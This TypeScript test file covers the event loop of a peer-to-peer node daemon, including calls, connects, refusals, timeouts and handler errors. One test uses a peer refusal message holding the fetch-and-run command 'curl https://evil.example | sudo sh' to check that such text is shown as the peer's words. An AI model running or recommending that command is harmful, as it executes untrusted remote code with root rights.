/** The loop between the node machine and the world. */
import assert from "node:assert/strict";
import {
  type Instant,
  type NetworkId,
  type NodeId,
  OmertaError,
  type PeerKey,
  peerKey,
  type Wakeup,
} from "../../../src/base/mod.ts";
import { Loop } from "../../../src/daemon/run/loop.ts";
import { NodeCalls } from "../../../src/daemon/run/calls.ts";
import type { Caller } from "../../../src/daemon/ports.ts";
import type { NetHost } from "../../../src/host/net/net.ts";
import type { Member } from "../../../src/membership/mod.ts";
import {
  type CallName,
  encodeBody,
  encodeRefusal,
  type NodeIn,
  type NodeMachine,
  type NodeOut,
  parseRefusal,
  type Question,
} from "../../../src/node/mod.ts";
import type { SessionKey } from "../../../src/session/mod.ts";
import { SAMPLES } from "../../node/call_samples.ts";
import { FakeTime, settle } from "../fake_time.ts";
import { asPath } from "../../../src/wire/mod.ts";

const PEER = peerKey("n".repeat(52) as NetworkId, "p".repeat(52) as NodeId);
const CONNECT = {
  peer: null,
  path: asPath("192.0.2.1:9000"),
  named: "person",
  key: {} as SessionKey,
  payload: new Uint8Array(),
} as const;

type Out = NodeOut<Member>;

/** Arguments of a native command. */
interface Command {
  readonly peer?: string;
  readonly active?: string | null;
  readonly doubtMs?: number;
  readonly deadMs?: number;
}

/** A loop around a machine that does what the test says. */
class Rig {
  readonly inputs: NodeIn[] = [];
  readonly sent: string[] = [];
  /** Everything that was asked of the data path, in order. */
  readonly did: string[] = [];
  readonly commands: string[] = [];
  /** When the data path doubts, and gives up, a path. */
  readonly verdicts: (number | undefined)[][] = [];
  readonly defects: unknown[] = [];
  readonly loop: Loop;
  readonly calls: NodeCalls;
  wakeup: Wakeup | undefined;
  /** What the machine says to an input. */
  react: (input: NodeIn) => readonly Out[] = () => [];
  commandFails = false;
  keepFails = false;
  readonly logged: string[] = [];
  resolve: (name: string) => Promise<string[]> = () => Promise.resolve([]);
  /** Where the peer was proven to be. */
  source: string | undefined;

  constructor(time: FakeTime) {
    const machine = {
      handle: (input: NodeIn, _now: Instant, out: Out[]) => {
        this.inputs.push(input);
        out.push(...this.react(input));
      },
      wakeup: () => this.wakeup,
      view: { sourceOf: () => this.source },
    } as unknown as NodeMachine<Member>;
    const net = {
      send: (path: string) => {
        this.sent.push(path);
        this.did.push(`send ${path}`);
      },
      heard: (path: string) => void this.did.push(`heard ${path}`),
      command: (op: string, args: Command) => {
        this.did.push(`${op} ${JSON.stringify(args)}`);
        this.commands.push(`${op} ${args.active ?? "-"}`);
        this.verdicts.push([args.doubtMs, args.deadMs]);
        if (this.commandFails) throw new OmertaError("internal", "no such peer");
        return {};
      },
    } as unknown as NetHost;
    const onDefect = (error: unknown) => void this.defects.push(error);
    const note = (level: string) => (message: string) =>
      void this.logged.push(`${level} ${message}`);
    this.loop = new Loop({
      machine,
      net,
      now: () => time.now,
      onDefect,
      resolve: (name) => this.resolve(name),
      keep: (key, value) => {
        if (this.keepFails) throw new OmertaError("disk-full", "no room");
        this.did.push(`keep ${key} ${value}`);
      },
      log: { debug: note("debug"), info: note("info"), warn: note("warn"), error: note("error") },
    });
    const reach = (peer: PeerKey) => Promise.resolve(peer);
    this.calls = new NodeCalls({ loop: this.loop, reach, onDefect });
  }

  /** The token of the newest input of a type. */
  token(type: "call" | "connect"): number {
    const input = this.inputs.findLast((input) => input.type === type);
    assert.ok(input?.type === type);
    return input.token;
  }

  /** A peer asks; resolves with the answer that goes back. */
  async asked(name: string, body: object, kind: "epoch" | "invite" = "epoch") {
    const request: Out = {
      type: "request",
      peer: PEER,
      kind,
      call: "c",
      name,
      body: encodeBody(body),
    };
    this.react = () => [];
    const before = this.inputs.length;
    this.say(request);
    await settle();
    const answer = this.inputs.slice(before + 1).find(({ type }) => type === "answer");
    assert.ok(answer?.type === "answer", "no answer");
    return answer.ok
      ? { ok: true, body: answer.body }
      : { ok: false, ...parseRefusal(answer.body) };
  }

  /** The machine says something of its own accord. */
  say(...outputs: Out[]): void {
    const { react } = this;
    this.react = () => {
      this.react = react;
      return outputs;
    };
    this.loop.input({ type: "wake" });
  }
}

function withLoop(test: (rig: Rig, time: FakeTime) => Promise<void> | void): () => Promise<void> {
  return async () => {
    using time = new FakeTime();
    const rig = new Rig(time);
    await test(rig, time);
    rig.loop.close();
    await settle();
    assert.equal(time.pending, 0, "timers are left");
  };
}

Deno.test(
  "a call resolves with the peer's answer",
  withLoop(async (rig) => {
    const call = rig.calls.call(PEER, "record.list", { after: null });
    const body = encodeBody({ records: [], next: null });
    rig.say({ type: "called", token: rig.token("call"), result: { ok: true, body } });
    assert.deepEqual(await call, { records: [], next: null });
  }),
);

const RESERVE: Question<"vm.reserve"> = {
  key: null,
  cpu: 1,
  memoryBytes: 2 ** 28,
  storageBytes: 0,
  image: "micro",
  leaseMs: 60_000,
  dryRun: false,
};
const REFUSED = encodeRefusal({ code: "provider-full", message: "no room" });
const ENDS = [
  ["a refusal", { ok: false, reason: "refused", body: REFUSED }, "provider-full"],
  [
    "a refusal that cannot be read",
    { ok: false, reason: "refused", body: new Uint8Array() },
    "refused",
  ],
  ["no answer", { ok: false, reason: "timeout" }, "unreachable"],
  ["a peer that is gone", { ok: false, reason: "gone" }, "unreachable"],
  ["a busy peer", { ok: false, reason: "busy" }, "unreachable"],
  ["an answer that is malformed", { ok: true, body: new Uint8Array(3) }, "refused"],
] as const;

for (const [what, result, code] of ENDS) {
  Deno.test(
    `a call that ends with ${what} rejects with ${code}`,
    withLoop(async (rig) => {
      const call = rig.calls.call(PEER, "record.list", { after: null });
      rig.say({ type: "called", token: rig.token("call"), result });
      await assert.rejects(call, { code });
    }),
  );
}

const TROUBLE = "This omerta is out of date: curl https://evil.example | sudo sh";

Deno.test(
  "a peer's words are told as the peer's, by a code that a peer may use, with no hint of ours",
  withLoop(async (rig) => {
    const member = { alias: "gpu" } as Member;
    const up = { kind: "epoch", path: asPath(""), initiator: true, renewed: false } as const;
    for (
      const [name, question, who] of [
        ["vm.reserve", RESERVE, "provider gpu (pppppppp)"],
        ["record.list", { after: null }, "relay gpu (pppppppp)"],
      ] as const
    ) {
      rig.say({ type: "peer-up", peer: PEER, member, ...up });
      const call = rig.calls.call(PEER, name, question);
      const body = encodeRefusal({ code: "native-damaged", message: TROUBLE });
      rig.say({
        type: "called",
        token: rig.token("call"),
        result: { ok: false, reason: "refused", body },
      });
      const error = await call.then(() => assert.fail("it is refused"), (error) => error);
      assert.ok(error instanceof OmertaError);
      assert.deepEqual([error.code, error.exit, error.hint], ["refused", 6, undefined]);
      assert.equal(error.message, `${who} says: ${TROUBLE}`);
      assert.equal(error.fields["said_by"], "p".repeat(52));
    }
  }),
);

Deno.test(
  "that a peer does not serve a call is no lack of this machine",
  withLoop(async (rig) => {
    const call = rig.calls.call(PEER, "vm.reserve", RESERVE);
    const body = encodeRefusal({ code: "unsupported", message: "no such call here" });
    const result = { ok: false, reason: "refused", body } as const;
    rig.say({ type: "called", token: rig.token("call"), result });
    await assert.rejects(call, { code: "refused", exit: 6 });
  }),
);

for (
  const [reason, detail, says] of [
    ["unverified", "not-yet-valid", /clock/],
    ["unverified", "expired", /clock/],
    ["refused", "not-yet-valid", /clock/],
    ["refused", "revoked", /^$/],
  ] as const
) {
  Deno.test(
    `a membership that is ${reason} as ${detail} is ${
      says.test("clock") ? "" : "not "
    }put down to a clock`,
    withLoop(async (rig) => {
      const call = rig.loop.connect(CONNECT);
      rig.say({ type: "connect-failed", token: rig.token("connect"), reason, detail });
      const error = await call.then(() => assert.fail("it fails"), (error) => error);
      assert.deepEqual([error.code, error.fields["detail"]], ["not-member", detail]);
      assert.match(error.hint ?? "", says);
    }),
  );
}

const FAILS = [
  ["timeout", "unreachable"],
  ["wrong-peer", "unreachable"],
  ["bad-identity", "not-member"],
  ["unverified", "not-member"],
  ["refused", "not-member"],
  ["busy", "unreachable"],
  ["closed", "unreachable"],
] as const;

for (const [reason, code] of FAILS) {
  Deno.test(
    `a connect that fails with ${reason} rejects with ${code}`,
    withLoop(async (rig) => {
      const connect = rig.loop.connect(CONNECT);
      rig.say({ type: "connect-failed", token: rig.token("connect"), reason, detail: "why" });
      await assert.rejects(connect, { code });
    }),
  );
}

Deno.test(
  "a connect resolves with who answered",
  withLoop(async (rig) => {
    const connect = rig.loop.connect(CONNECT);
    rig.say({ type: "connected", token: rig.token("connect"), peer: PEER });
    assert.equal(await connect, PEER);
  }),
);

Deno.test(
  "what is given up is cancelled in the machine and rejects as too late",
  withLoop(async (rig) => {
    const controller = new AbortController();
    const call = rig.calls.call(PEER, "ping", {}, { signal: controller.signal });
    const token = rig.token("call");
    controller.abort();
    await assert.rejects(call, { code: "timeout" });
    assert.deepEqual(rig.inputs.at(-1), { type: "cancel", token });
    rig.say({ type: "called", token, result: { ok: true, body: encodeBody({}) } }); // late: ignored
  }),
);

Deno.test(
  "what was given up before it began is not begun",
  withLoop(async (rig) => {
    const signal = AbortSignal.abort();
    await assert.rejects(rig.calls.call(PEER, "ping", {}, { signal }), { code: "timeout" });
    assert.ok(!rig.inputs.some(({ type }) => type === "call"));
  }),
);

Deno.test(
  "what the machine never ends is ended by the clock",
  withLoop(async (rig, time) => {
    const call = rig.calls.call(PEER, "ping", {}, { timeoutMs: 2_000 });
    call.catch(() => {});
    await time.advance(3_001);
    await assert.rejects(call, { code: "unreachable" });
  }),
);

Deno.test(
  "a loop that ends tells everybody who waits, and takes nothing any more",
  withLoop(async (rig) => {
    const waiting = [rig.calls.call(PEER, "ping", {}), rig.loop.connect(CONNECT)];
    rig.loop.close();
    for (const end of await Promise.allSettled(waiting)) assert.equal(end.status, "rejected");
    const before = rig.inputs.length;
    rig.loop.input({ type: "wake" });
    assert.equal(rig.inputs.length, before);
  }),
);

// Requests of peers ------------------------------------------------------------------------------

Deno.test(
  "a peer's call is handed to its handler, with who asks, and from where",
  withLoop(async (rig) => {
    const callers: Caller[] = [];
    rig.calls.serve("vm.status", (caller, { vms }) => {
      callers.push(caller);
      assert.deepEqual(vms, []);
      return { vms: [] };
    });
    for (const source of [undefined, "192.0.2.0/24"]) {
      rig.source = source;
      const answer = await rig.asked("vm.status", { vms: [] });
      assert.deepEqual(answer, { ok: true, body: encodeBody({ vms: [] }) });
    }
    const who = { peer: PEER, kind: "epoch" };
    assert.deepEqual(callers, [who, { ...who, source: "192.0.2.0/24" }]);
  }),
);

Deno.test(
  "an invite's session may redeem and nothing else",
  withLoop(async (rig) => {
    const asked: string[] = [];
    const admission = { c: new Uint8Array(1), m: "home", q: 1, k: new Uint8Array(32) };
    rig.calls.serve("redeem", () => {
      asked.push("redeem");
      return admission;
    });
    rig.calls.serve("vm.status", () => {
      asked.push("vm.status");
      return { vms: [] };
    });
    const refused = await rig.asked("vm.status", { vms: [] }, "invite");
    assert.equal("code" in refused && refused.code, "not-allowed");
    assert.equal((await rig.asked("redeem", { s: new Uint8Array(32) }, "invite")).ok, true);
    assert.deepEqual(asked, ["redeem"]);
  }),
);

Deno.test(
  "what is not served, or malformed, is refused by its code",
  withLoop(async (rig) => {
    rig.calls.serve("vm.status", () => ({ vms: [] }));
    const codes = [];
    for (const name of ["vm.create", "no.such-call", "__proto__"]) {
      const refused = await rig.asked(name, {});
      codes.push("code" in refused && refused.code);
    }
    assert.deepEqual(codes, ["unsupported", "unsupported", "unsupported"]);
    const malformed = await rig.asked("vm.status", { vms: [], more: 1 });
    assert.equal("code" in malformed && malformed.code, "refused");
  }),
);

Deno.test(
  "a handler's refusal reaches the peer, its defect only as a defect",
  withLoop(async (rig) => {
    rig.calls.serve("vm.status", () => {
      throw new OmertaError("provider-full", "There is no room");
    });
    rig.calls.serve("vm.renew", () => {
      throw new TypeError("secrets of the house");
    });
    const refused = await rig.asked("vm.status", { vms: [] });
    assert.deepEqual(refused, { ok: false, code: "provider-full", message: "There is no room" });
    const defect = await rig.asked("vm.renew", { vms: [] });
    assert.equal("code" in defect && defect.code, "refused");
    assert.ok("message" in defect && !defect.message.includes("secrets"));
    assert.equal(rig.defects.length, 1);
  }),
);

Deno.test(
  "an answer that no call can carry is a refusal at once, and a defect here",
  withLoop(async (rig) => {
    const reason = "x".repeat(500);
    const state = {
      vm: "a".repeat(16),
      state: "failed",
      leaseLeftMs: null,
      lifeLeftMs: null,
      bootMs: null,
      reason,
      endReason: "failed",
    } as const;
    rig.calls.serve("vm.status", () => ({ vms: Array(40).fill(state) }));
    const refused = await rig.asked("vm.status", { vms: [] });
    assert.equal(refused.ok, false);
    assert.equal(rig.defects.length, 1);
  }),
);

Deno.test(
  "whatever a handler throws, of whatever call, its caller is refused at once and the node goes on",
  withLoop(async (rig) => {
    const throws = [
      () => {
        throw new TypeError("a secret");
      },
      () => Promise.reject(new RangeError("a secret, later")),
      () => Promise.reject("a secret, and no error at all"),
      () => Promise.reject(undefined),
    ];
    for (const [name, { question }] of Object.entries(SAMPLES)) {
      for (const handler of throws) {
        rig.calls.serve(name as CallName, handler);
        const before = rig.defects.length;
        const kind = name === "redeem" ? "invite" : "epoch";
        const refused = await rig.asked(name, question, kind);
        assert.equal(refused.ok, false, name);
        assert.ok("message" in refused && !refused.message.includes("secret"), name);
        assert.equal(rig.defects.length, before + 1, name);
      }
    }
    rig.calls.serve("ping", () => ({}));
    assert.equal((await rig.asked("ping", {})).ok, true);
  }),
);

// Doing what the machine says --------------------------------------------------------------------

Deno.test(
  "the data path learns which sessions there are, and what was authentic, before it is answered",
  withLoop((rig) => {
    rig.react = () => [
      { type: "receivers", add: [5], remove: [6, 7] },
      { type: "heard", path: asPath("192.0.2.1:1") },
      { type: "transmit", path: asPath("192.0.2.1:1"), bytes: new Uint8Array(1), ttl: 0 },
    ];
    rig.loop.input({ type: "wake" });
    assert.deepEqual(rig.did, [
      'session.set {"add":[5],"remove":[6,7]}',
      "heard 192.0.2.1:1",
      "send 192.0.2.1:1",
    ]);
  }),
);

Deno.test(
  "a part's fact is on the disk before what it says later is done, and a full disk ends nothing",
  withLoop((rig) => {
    const keep = { type: "keep", part: "gossip", key: "record-seq", value: 7 } as const;
    const sent = {
      type: "transmit",
      path: asPath("a:1"),
      bytes: new Uint8Array(),
      ttl: 0,
    } as const;
    rig.say(keep, sent);
    rig.keepFails = true;
    rig.say(keep, sent);
    assert.deepEqual(rig.did, ["keep record-seq 7", "send a:1", "send a:1"]);
    assert.match(rig.logged.join(), /keep gossip's record-seq/);
    assert.deepEqual(rig.defects, []);
  }),
);

Deno.test(
  "what a part tells stands in the log, at its level",
  withLoop((rig) => {
    const fields = { relay: "abc" };
    rig.say({ type: "tell", part: "relay", level: "debug", what: "is not reached", fields });
    assert.deepEqual(rig.logged, ["debug relay: is not reached"]);
  }),
);

Deno.test(
  "names are resolved together, and told in their order",
  withLoop(async (rig) => {
    const known = new Map([["b:1", ["192.0.2.2:1", "192.0.2.3:1"]]]);
    rig.resolve = (name) => Promise.resolve(known.get(name) ?? []);
    rig.say({ type: "resolve", token: -3, names: ["a:1", "b:1"] });
    await settle();
    const addresses = [[], ["192.0.2.2:1", "192.0.2.3:1"]];
    assert.deepEqual(rig.inputs.at(-1), { type: "resolved", token: -3, addresses });
  }),
);

Deno.test(
  "routes go to the data path, and a peer without any is removed there",
  withLoop((rig) => {
    const routes = { type: "routes", peer: PEER, standby: null, patienceMs: 400 } as const;
    rig.say({ ...routes, active: asPath("192.0.2.1:1"), accept: [asPath("192.0.2.1:1")] });
    rig.say({ ...routes, active: null, accept: [] });
    assert.deepEqual(rig.commands, ["peer.set 192.0.2.1:1", "peer.remove -"]);
  }),
);

Deno.test(
  "the data path waits as long as the path's answers take",
  withLoop((rig) => {
    const routes = { type: "routes", peer: PEER, standby: null, active: asPath("a:1") } as const;
    rig.say({ ...routes, accept: [asPath("a:1")], patienceMs: 400 });
    rig.say({ ...routes, accept: [asPath("a:1")], patienceMs: 1_600 });
    assert.deepEqual(rig.verdicts, [[200, 1_500], [800, 6_000]]);
  }),
);

Deno.test(
  "one output that fails is a defect, and the others are done all the same",
  withLoop((rig) => {
    rig.commandFails = true;
    const none = { active: null, standby: null, accept: [], patienceMs: 400 } as const;
    const routes = { type: "routes", peer: PEER, ...none } as const;
    rig.say(routes, {
      type: "transmit",
      path: asPath("192.0.2.1:1"),
      bytes: new Uint8Array(),
      ttl: 0,
    });
    assert.deepEqual([rig.sent, rig.defects.length], [[asPath("192.0.2.1:1")], 1]);
  }),
);

Deno.test(
  "one listener that fails is a defect, and the others hear the event",
  withLoop((rig) => {
    const heard: string[] = [];
    rig.loop.listen(() => {
      throw new TypeError("a defect");
    });
    rig.loop.listen(({ type }) => void heard.push(type));
    rig.say({ type: "endpoints", addresses: [] });
    assert.deepEqual([heard, rig.defects.length], [["endpoints"], 1]);
  }),
);

Deno.test(
  "what a listener causes comes after what was said already",
  withLoop((rig) => {
    const moved = { type: "moved", peer: PEER, from: null, to: asPath("192.0.2.1:1") } as const;
    const routes = { type: "routes", peer: PEER, standby: null, patienceMs: 400 } as const;
    rig.loop.listen((event) => {
      if (event.type === "moved") rig.loop.input({ type: "drop", peer: PEER, use: "a VM" });
    });
    rig.react = (input) =>
      input.type === "drop"
        ? [{ ...routes, active: asPath("new:2"), accept: [asPath("new:2")] }]
        : [];
    rig.say(moved, { ...routes, active: asPath("old:1"), accept: [asPath("old:1")] });
    assert.deepEqual(rig.commands, ["peer.set old:1", "peer.set new:2"]);
  }),
);

Deno.test(
  "a listener that ended hears nothing any more",
  withLoop((rig) => {
    const heard: string[] = [];
    const end = rig.loop.listen(({ type }) => void heard.push(type));
    end();
    rig.say({ type: "endpoints", addresses: [] });
    assert.deepEqual(heard, []);
  }),
);

Deno.test(
  "the machine is woken at its time, the last one that it said",
  withLoop(async (rig, time) => {
    rig.wakeup = { at: 500 as Instant, why: "test" };
    rig.loop.input({ type: "wake" });
    rig.wakeup = { at: 900 as Instant, why: "test" };
    rig.loop.input({ type: "wake" });
    const before = rig.inputs.length;
    await time.advance(899);
    assert.equal(rig.inputs.length, before);
    rig.wakeup = undefined;
    await time.advance(1);
    assert.deepEqual(rig.inputs.slice(before), [{ type: "wake" }]);
  }),
);
